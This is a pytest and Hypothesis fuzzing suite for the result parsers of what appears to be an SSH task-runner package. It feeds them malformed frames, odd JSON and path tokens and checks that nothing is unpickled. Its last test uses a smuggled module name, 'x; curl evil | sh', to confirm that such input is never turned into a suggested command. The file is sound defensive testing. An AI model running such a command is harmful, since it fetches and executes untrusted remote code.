"""Whatever bytes come: every parser of the near side gives what it promises, or the error that it states.

20,000 examples and more, most of them almost right, since what is plainly wrong is refused by the first line.
"""

from __future__ import annotations

import json
import time
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from support import parsers
from support.unpickling import nothing_unpickled

from covalent_sshtiming import outcomes
from covalent_sshtiming.host.task import Outcome

GOLDEN: list[dict[str, Any]] = json.loads((Path(__file__).parent / "golden" / "frames.json").read_text())
BUILT = 160  # examples for each of seven parsers that are built from nothing
EDITED = 3200  # and that are sound ones with a few edits, which costs a tenth of that
EDITED_ON_DISK = 1000  # of those, where each makes files

scalars: st.SearchStrategy[Any] = st.sampled_from(
    [None, True, -1, 0, 1, 3, 10**19, 2**63, 1e300, 1.5, "", "failed", "\x1b[31m\u202e", "x" * 5000, [], {}]
)
values = scalars | st.lists(scalars, max_size=3) | st.dictionaries(st.text(max_size=3), scalars, max_size=2)
# Texts of JSON that nobody's encoder makes.
odd_json = st.sampled_from(
    [
        b"[]",
        b"null",
        b"1",
        b"NaN",
        b"1e999",
        b"9" * 30,
        b"[" * 3000,
        b'{"a":' * 3000,
        b"\xff",
        b"'",
        b"{}{}",
        b'"\\ud800"',
        b"",
        b"\xef\xbb\xbf{}",
    ]
)

TOKENS = [
    b"{M}",
    b"{H}",
    b"{S}",
    b"\n",
    b"[]",
    b"null",
    b"1",
    b"NaN",
    b"1e999",
    b"-1",
    b"true",
    b'"',
    b"[",
    b"]",
    b"}",
    b"\0",
    b"\x01",
    b"\xff\xff",
    b"+\n\n",
    b"../",
    b"/",
]


def objects(*names: str) -> st.SearchStrategy[bytes]:
    """Return texts of JSON objects with these keys, mostly."""
    known = st.dictionaries(st.sampled_from([*names, "other"]), values, max_size=4)
    return known.map(lambda value: json.dumps(value).encode()) | odd_json


def frame(kind: int, version: int, header: bytes, body: bytes, lie: int) -> bytes:
    """Return a frame, whose lengths may lie."""
    size = max(0, len(body) + lie).to_bytes(4, "big")
    return bytes([version, kind]) + len(header).to_bytes(2, "big") + bytes(3) + b"\x07" + size + header + body


mostly_one = st.sampled_from([1, 1, 1, 1, 1, 1, 0, 2])
mostly_true = st.sampled_from([0, 0, 0, 0, 1, -1, 70_000, 2**31])
frames = st.builds(
    frame, st.integers(0, 20), mostly_one, objects("parts", "size"), st.binary(max_size=30), mostly_true
)
cuts = st.integers(0, 255).map(lambda cut: bytes([cut]))
error = st.dictionaries(
    st.sampled_from(["class", "text", "traceback", "phase", "module", "hook"]),
    values | st.sampled_from(["TaskFailed", "TransferError", "RemoteEnvError", "start", "before", "furl"]),
)
ended = st.fixed_dictionaries(
    {},
    optional={
        "status": values,
        "error": error | values,
        "record": values,
        "exit_code": values,
        "stdout": values,
    },
)
BUILDS: dict[str, st.SearchStrategy[bytes]] = {
    "decoder": st.builds(lambda cut, pieces: cut + b"".join(pieces), cuts, st.lists(frames, max_size=4)),
    "preamble": st.builds(
        lambda cut, noise, text, end: cut + noise + b"{M}" + text + end,
        cuts,
        st.binary(max_size=20) | st.just(b"n" * 70_000),
        objects("archive", "refused"),
        st.sampled_from([b"\n", b"\nrest", b"", b" " * 9000]),
    ),
    "result": st.builds(
        lambda sizes, cut, head, rest: json.dumps({"parts": sizes}).encode() + b"\n" + cut + head + rest,
        st.tuples(st.sampled_from([len(parsers.HEADER), 0, 2]), st.integers(0, 3), st.integers(0, 5))
        | values,
        cuts,
        st.just(b"{H}") | objects("py_version", "cloudpickle_version", "attrs"),
        st.binary(max_size=8),
    ),
    "outcome": st.builds(
        lambda hello, end: hello + b"\n" + end,
        objects("hostname", "cores", "python", "executable"),
        ended.map(lambda value: json.dumps(value).encode()) | odd_json,
    ),
    "output": st.binary(max_size=200),
    "files": st.lists(
        st.tuples(
            objects("name", "size", "left", "sha256", "end", "more", "broken", "errno") | st.just(b"+"),
            st.binary(max_size=5),
        ).map(b"\n".join),
        max_size=5,
    ).map(b"\n".join),
    "complaints": st.builds(
        lambda facts, cut, steps: facts + b"\n" + cut + b"".join(steps),
        objects("refused", "python", "executable", "conda", "found", "text"),
        cuts,
        st.lists(
            st.sampled_from(
                [b"0", b"1", b"2", b"\xc2\xb2", b"conda", b"conda-by x", b"no-python", b"done"]
            ).flatmap(lambda step: st.binary(max_size=20).map(lambda said: b"{S}" + step + b"\n" + said)),
            max_size=4,
        ),
    ),
}


def edited(seed: bytes, script: bytes) -> bytes:
    """Edit sound bytes as a script says, of four bytes for each edit."""
    data = bytearray(seed)
    for kind, first, second, value in zip(*[iter(script)] * 4, strict=False):
        at = (first << 8 | second) % (len(data) + 1)
        match kind % 6:
            case 0:
                data[at : at + 1] = bytes([value])
            case 1:
                del data[at : at + value % 16 + 1]
            case 2:
                data[at:at] = data[at : at + value]
            case 3:
                data[at:at] = TOKENS[value % len(TOKENS)]
            case 4:
                data[at : at + 1] = TOKENS[value % len(TOKENS)]
            case _:
                data[at:at] = seed[: value % (len(seed) + 1)]
    return bytes(data)


@pytest.mark.parametrize("name", parsers.PARSERS)
def test_any_bytes_give_what_was_promised(name: str) -> None:
    """Almost right or plainly wrong, nothing that comes breaks a parser's promise, or is unpickled."""
    parser, count, begun = parsers.PARSERS[name], 0, time.monotonic()
    sound = st.sampled_from(parsers.seeds(name, GOLDEN))
    edits = st.builds(edited, sound, st.binary(min_size=4, max_size=20))

    def holds(data: bytes) -> None:
        nonlocal count
        count += 1
        parser(data)

    edited_ones = EDITED_ON_DISK if name == "files" else EDITED
    for examples, number in ((BUILDS[name], BUILT), (edits, edited_ones)):
        thorough = settings(
            database=None, deadline=None, max_examples=number, suppress_health_check=list(HealthCheck)
        )
        with nothing_unpickled():
            thorough(given(examples)(holds))()
    print(f"{name}: {count} examples in {time.monotonic() - begun:.1f} s")
    assert count >= BUILT + edited_ones


@pytest.mark.parametrize("name", parsers.PARSERS)
def test_seeds_of_the_fuzzer_are_sound(name: str) -> None:
    """What the fuzzer starts from passes, and so does each cut short anywhere, or with a byte changed."""
    parser = parsers.PARSERS[name]
    for seed in parsers.seeds(name, GOLDEN):
        parser(seed)
        for at in range(len(seed)):
            parser(seed[:at])
            parser(seed[:at] + bytes([seed[at] ^ 0x41]) + seed[at + 1 :])


def _worded(told: dict[str, Any], deeper: int = 0) -> str:
    if deeper:
        return _worded(told, deeper - 1)
    ended = {"status": "failed", "error": told}
    return str(outcomes.error_of(Outcome(ended, b"", b"", {"executable": "/x; y"}, {}), "far", "f"))


def test_what_is_no_text_is_not_put_into_words() -> None:
    """A list so deep that reading it back needs all of the stack is worded as nothing at all."""
    deep = json.loads("[" * 800 + "]" * 800)
    for name in ("class", "text", "traceback", "module", "phase"):
        assert _worded({"class": "RemoteEnvError", "text": "t", name: deep}, deeper=300).startswith("far: f")


def test_no_machine_words_a_command_for_us_to_type() -> None:
    """A missing module is named with what to run only if it is a module's name; a path stays one word."""
    said = _worded({"class": "RemoteEnvError", "text": "t", "module": "a.b_c"})
    assert "run `'/x; y' -m pip install a.b_c` there" in said
    said = _worded({"class": "RemoteEnvError", "text": "lacks x", "module": "x; curl evil | sh"})
    assert said == "far: f: lacks x."
